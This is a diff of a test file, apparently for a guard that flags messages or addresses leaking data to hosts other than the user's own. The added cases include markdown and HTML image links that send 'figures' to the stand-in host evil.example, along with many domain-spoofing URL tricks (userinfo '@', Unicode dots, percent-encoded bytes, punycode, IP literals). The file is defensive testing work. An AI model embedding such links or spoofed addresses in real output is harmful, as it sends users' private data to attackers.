@@ -30,6 +30,8 @@ test.each([
   '<team@tides.example.invalid>',
   'https://tides.example.invalid',
   'https://wiki.tides.example.invalid:8443/page?x=1#y',
+  'HTTPS://WIKI.tides.example.invalid/',
+  'https://xn--d1a.tides.example.invalid/',
 ])("is the user's own: %s", (to) => expect(leaksTo(to)).toBe(false));
 
 // As in the parser confusions of 2026: suffix, user, back slash, NUL, other letters, a dot, routes, comments, quotes.
@@ -55,7 +57,28 @@ test.each([
   'ftp://tides.example.invalid/',
   'general',
   'general team@tides.example.invalid',
-  ' ',
+  'https://tides.example.invalid:443@evil.example/',
+  'https://tides.example.invalid:x@evil.example/',
+  'https://tides.example.invalid:443.evil.example/',
+  'https://tides.example.invalid./',
+  'https://tides.example.invalid.evil.example./',
+  'https://tides.example.invalid\t.evil.example/',
+  'https://tides.example.invalid\n.evil.example/',
+  'https://evil.example%2f.tides.example.invalid/',
+  'https://evil.example%00.tides.example.invalid/',
+  'https://evil.example\u3002tides.example.invalid/',
+  'https://evil.example\u2024tides.example.invalid/',
+  'https://evil.example\u200b.tides.example.invalid/',
+  'https://tides.example.inval\u0131d/',
+  'https://xn--tides-9ce.example.invalid/',
+  'https://[::1]/.tides.example.invalid',
+  'https://[::ffff:1.2.3.4].tides.example.invalid/',
+  'https://1.2.3.4/tides.example.invalid',
+  'eve@[1.2.3.4].tides.example.invalid',
+  'eve@evil.example,@tides.example.invalid',
+  'mailto:eve@evil.example?cc=team@tides.example.invalid',
+  'xhttps://tides.example.invalid/',
+  'https:///tides.example.invalid/',
 ])('is not: %j', (to) => expect(leaksTo(to)).toBe(true));
 
 test("a link in what is said to the user's own is a destination too", () => {
@@ -64,6 +87,33 @@ test("a link in what is said to the user's own is a destination too", () => {
   expect(leaksTo(to, 'see ![x](https://evil.example/?q=figures')).toBe(true);
   expect(leaksTo(to, 'see ![x](//evil.example/?q=figures')).toBe(true);
   expect(leaksTo(to, 'see https://evil.example/ and the figures')).toBe(false);
+  expect(leaksTo(to, 'see <https://evil.example/> and <b>the figures')).toBe(false);
+});
+
+// As browsers and mail programs read them: slashes, entities, blanks in a tag, one address in another.
+test.each([
+  'https:\\\\evil.example/?q=figures',
+  'https:/\\evil.example/?q=figures',
+  'https:evil.example/?q=figures',
+  '\\\\evil.example\\figures',
+  '<img src=https:&#47;&#x2F;evil.example/?q=figures',
+  '<img src="https:&sol;&sol;evil.example/?q=figures',
+  '<img src="https://evil.example/?q=all the figures',
+  '<img src="https://evil.example/?q=\nfigures',
+  '![x](<https://evil.example/?q=all the figures',
+  'https://evil.example/?u=https://wiki.tides.example.invalid/&q=figures',
+  '(https://wiki.tides.example.invalid/),(https://evil.example/?q=figures',
+  `${'https://wiki.tides.example.invalid/,'.repeat(16)}figures`,
+])("a link that is not the user's own, written %j, carries nothing private to them", (body) => {
+  expect(leaksTo('team@tides.example.invalid', body)).toBe(true);
+});
+
+test('a long text of what addresses begin with is read in linear time', () => {
+  for (const some of ['/', '//', 'https:', '<', '&#47;', '\\ ', 'x']) {
+    const start = performance.now();
+    leaksTo('team@tides.example.invalid', `${some.repeat(Math.floor((1 << 20) / some.length))}figures`);
+    expect(performance.now() - start, some).toBeLessThan(2000);
+  }
 });
 
 const KEY = `ghp_${'a1B2'.repeat(9)}`;
